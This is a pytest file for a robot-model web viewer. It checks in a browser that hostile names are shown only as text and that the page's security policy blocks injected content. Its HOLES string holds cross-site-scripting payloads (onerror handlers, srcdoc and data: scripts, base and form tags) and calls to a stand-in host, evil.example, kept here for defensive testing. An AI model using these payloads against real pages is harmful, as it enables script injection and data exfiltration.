"""Hostile names in the page, in a real browser: they are shown as they are, and nothing else happens."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import pytest
from tests.hostile.names import CODE, CONTROLS, EVERY, LETTERS, MARKUP, PROTOTYPES, hostile
from tests.view.browsing import complaints, ready, served, show_all
from tests.view.conftest import chromium, page
from tools.chromium import Page

from unibody.model.robot import Joint, Link, Robot
from unibody.model.shape import Box, Material, Shape
from unibody.page.data import Extras, Origin, Shown, pages_data
from unibody.page.page import filled_page
from unibody.text.finding import Finding, Findings
from unibody.text.source import Source, Span

__all__ = ["chromium", "page"]

TYPED = """(text => {
  for (const field of document.querySelectorAll('input[type=search], input[type=text]')) {
    field.value = text;
    field.dispatchEvent(new Event('input', {bubbles: true}));
  }
})"""
# All that a page could be made to run.
HOLES = """(() => {
  document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned=1">');
  document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>top.pwned=1</script>"></iframe>');
  document.body.insertAdjacentHTML('beforeend', '<form action=https://evil.example/><input></form>');
  for (const [tag, key, value] of [
    ['script', 'textContent', 'window.pwned=1'],
    ['script', 'src', 'data:text/javascript,window.pwned=1'],
    ['base', 'href', 'https://evil.example/'],
    ['style', 'textContent', 'body { background: url(https://evil.example/a.png) }'],
  ]) {
    const made = document.createElement(tag);
    made[key] = value;
    document.head.append(made);
  }
  document.forms[0].submit();
})()"""
# What a page has that runs no code but its own.
HARMLESS = """(() => ({
  pwned: window.pwned ?? null,
  scripts: document.scripts.length,
  odd: document.querySelectorAll(
    'img, iframe, object, embed, base, form, meta[http-equiv=refresh], link[rel=stylesheet], a[href]'
  ).length,
  handlers: [...document.querySelectorAll('*')].filter(
    e => [...e.attributes].some(a => a.name.startsWith('on') || /^\\s*javascript:/i.test(a.value))
  ).filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
  polluted: Object.keys(Object.prototype).concat(Object.keys(Array.prototype)).length,
  fresh: JSON.stringify(Object.getOwnPropertyNames(Object.prototype).sort().slice(0, 3)),
  styles: [...document.styleSheets].length,
}))()"""


def unharmed(page: Page) -> None:
    page.settle()
    found = page.eval(HARMLESS)
    assert found["pwned"] is None
    assert found["scripts"] == 2
    assert (found["odd"], found["handlers"], found["polluted"]) == (0, 0, 0)
    assert found["styles"] == 1
    assert complaints(page) == []


def chain(names: tuple[str, ...]) -> Robot:
    """Links one on the other, named so, as are their joints, shapes and materials."""
    links = tuple(
        Link(
            name=name,
            visuals=(Shape(name=name, geometry=Box(size=(0.1, 0.1, 0.1)), material=Material(name=name)),),
        )
        for name in names
    )
    joints = tuple(
        Joint(name=name, kind="revolute", parent=parent, child=name) for parent, name in pairwise(names)
    )
    return Robot(name=names[0], links=links, joints=joints)


def findings() -> list[Finding]:
    """Each name in every text of a finding: message, hint, code, and the file and line it points at."""
    out = []
    for number, name in enumerate(EVERY):
        short = name[:300]
        source = Source(f"dir/{short}.urdf", f"<robot>\n{short}\n</robot>", short)
        at = Span(source, 8, 8 + len(short))
        out.append(Finding(f"code-{number}", "error", f"'{short}': {short}", at, short))
    return out


@pytest.fixture(autouse=True)
def asked_nobody(page: Page) -> Iterator[None]:
    """No page asks anybody else for anything; a blob is the worker that the page makes of itself."""
    yield
    for url in page.requests():
        assert url.startswith(("file:///", "data:", "http://127.0.0.1:", "about:", "blob:")), url


@pytest.mark.slow
@pytest.mark.parametrize("names", [MARKUP + CODE, PROTOTYPES, LETTERS[:-1] + CONTROLS])
def test_names_of_links_and_joints(names: tuple[str, ...], page: Page, tmp_path: Path) -> None:
    robot = chain(names)
    show_all(page, tmp_path, [Shown(robot=robot, findings=findings(), origin=Origin(file=names[1]))])
    unharmed(page)
    shown = page.eval("[...document.querySelectorAll('[role=treeitem] .name')].map(e => e.textContent)")
    assert [name for name in names if name not in shown] == []
    assert page.eval("window.unibody.links()") == list(names)
    chosen = "(names => names.map(name => { unibody.select(name); return unibody.selected(); }))"
    assert page.eval(f"{chosen}({json.dumps(names)})") == list(names)
    turned = "(names => names.map(name => { unibody.move(name, 0.25); return unibody.position(name); }))"
    assert page.eval(f"{turned}({json.dumps(names[1:])})") == pytest.approx([0.25] * (len(names) - 1))
    unharmed(page)


@pytest.mark.slow
def test_a_name_of_many_letters(page: Page, tmp_path: Path) -> None:
    long = (LETTERS[-1], LETTERS[-1] + "y")
    said = Findings()
    said.error("code", f"'{long[0]}'", None, long[1])
    # No disk has longer names of files.
    shown = Shown(robot=chain(long), findings=said, origin=Origin(file=long[0][:250] + ".urdf"))
    show_all(page, tmp_path, [shown])
    assert page.eval("window.unibody.links().map(name => name.length)") == [100_000, 100_001]
    unharmed(page)
    # It does not push the page out of the window.
    assert page.eval("document.documentElement.scrollWidth <= innerWidth")
    assert page.eval("document.documentElement.scrollHeight <= innerHeight")


@pytest.mark.slow
@pytest.mark.parametrize("shift", range(0, len(EVERY), 14))
def test_all_that_has_a_name(shift: int, page: Page, tmp_path: Path) -> None:
    """Devices, frames, loops, textures, groups, postures, leftovers: each is chosen once."""
    robot = hostile(shift)
    origin = Origin(file=EVERY[shift][:200], format=EVERY[shift - 1][:200])
    show_all(page, tmp_path, [Shown(robot=robot, findings=findings()[::7], origin=origin)])
    unharmed(page)
    assert page.eval("window.unibody.links()") == [link.name for link in robot.solids]
    rows = page.eval("document.querySelectorAll('[role=treeitem]').length")
    assert rows > len(robot.links)
    for row in range(rows):
        page.eval(f"document.querySelectorAll('[role=treeitem]')[{row}].click()")
    unharmed(page)
    for configuration in robot.configurations:
        page.eval(f"window.unibody.posture({json.dumps(configuration.name)})")
    buttons = page.eval("document.querySelectorAll('button').length")
    for button in range(buttons):
        page.eval(f"document.querySelectorAll('button')[{button}]?.click()")
    unharmed(page)


@pytest.mark.slow
def test_hostile_words_in_the_search(page: Page, tmp_path: Path) -> None:
    show_all(page, tmp_path, [Shown(robot=hostile())])
    for name in (*MARKUP, *CODE[:4], "(", "[", "\\", ".*" * 50):
        page.eval(f"{TYPED}({json.dumps(name)})")
    unharmed(page)


@pytest.mark.slow
def test_two_models_and_their_difference(page: Page, tmp_path: Path) -> None:
    first, second = hostile(5), hostile(6)
    shown = [
        Shown(robot=robot, findings=findings()[:9], origin=Origin(file=name))
        for robot, name in ((first, MARKUP[0]), (replace(second, name=MARKUP[1]), MARKUP[2]))
    ]
    show_all(page, tmp_path, shown)
    unharmed(page)
    assert page.eval("window.unibody.other.links()") == [link.name for link in second.solids]
    buttons = page.eval("document.querySelectorAll('button').length")
    for button in range(buttons):
        page.eval(f"document.querySelectorAll('button')[{button}]?.click()")
    unharmed(page)


@pytest.mark.slow
def test_the_served_page_and_its_news(page: Page) -> None:
    data = pages_data(
        [Shown(robot=hostile(9), origin=Origin(file=MARKUP[0]))], extras=Extras(live=True)
    ).bytes
    with served(data) as server:
        page.open(server.address)
        ready(page)
        unharmed(page)
        server.complain("\n".join((*MARKUP, *CODE, *(c for c in CONTROLS))))
        page.wait("document.body.innerText.includes('onerror')")
        unharmed(page)
        server.show(pages_data([Shown(robot=hostile(10))], extras=Extras(live=True)).bytes)
        page.wait(f"window.unibody.links().includes({json.dumps(hostile(10).links[0].name)})")
        unharmed(page)


def test_the_policy_holds(page: Page, tmp_path: Path) -> None:
    """Were there a hole, the browser would not run what came through it, nor send anything out."""
    file = tmp_path / "page.html"
    file.write_bytes(filled_page(pages_data([Shown(robot=chain(("a", "b")))]).bytes))
    page.open(file.as_uri())
    ready(page)
    page.eval(HOLES)
    page.settle()
    assert page.eval("window.pwned ?? null") is None
    assert page.eval("document.baseURI").startswith("file:///")
    refused = page.eval("fetch('https://evil.example/').then(() => 'sent', () => 'refused')")
    assert refused == "refused"
